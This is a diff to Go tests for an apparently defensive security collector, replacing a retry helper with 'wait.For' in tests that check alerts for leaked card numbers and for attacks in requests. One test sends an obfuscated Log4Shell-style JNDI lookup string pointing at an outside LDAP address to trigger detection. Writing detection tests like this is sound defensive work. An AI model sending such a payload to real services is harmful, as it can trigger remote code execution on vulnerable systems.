@@ -20,6 +20,7 @@ import (
 	"github.com/holdfast-project/holdfast/collector/view"
 	"github.com/holdfast-project/holdfast/tests/lab"
 	"github.com/holdfast-project/holdfast/tests/rig"
+	"github.com/holdfast-project/holdfast/tests/wait"
 )
 
 // webSink takes requests on an address that is no pod's, plain and over TLS, until the test ends.
@@ -95,7 +96,7 @@ func TestSensitiveDataIsTold(t *testing.T) {
 // numbers.
 func sendCards(t *testing.T, r *rig.Rig, c *lab.Container, url, source string) (told *view.Alert, numbers []string) {
 	t.Helper()
-	err := eventually(t.Context(), time.Minute, func() error {
+	err := wait.For(t.Context(), time.Minute, func() error {
 		// Programs have their probes soon after they begin; the first may be quicker.
 		got, err := c.Exec(t.Context(), "python3", "-c", postProgram, url, "12")
 		words := strings.Fields(got.Stdout)
@@ -180,7 +181,7 @@ func TestAttackInARequestIsTold(t *testing.T) {
 		get("Mozilla/5.0 (X11; Linux x86_64)")
 	}
 	var told []view.Alert
-	err := eventually(t.Context(), time.Minute, func() error {
+	err := wait.For(t.Context(), time.Minute, func() error {
 		get("${${lower:j}ndi:ldap://203.0.113.66/a}")
 		var err error
 		told, err = r.Alerts(t.Context(), "--rule", "Attack in a request")
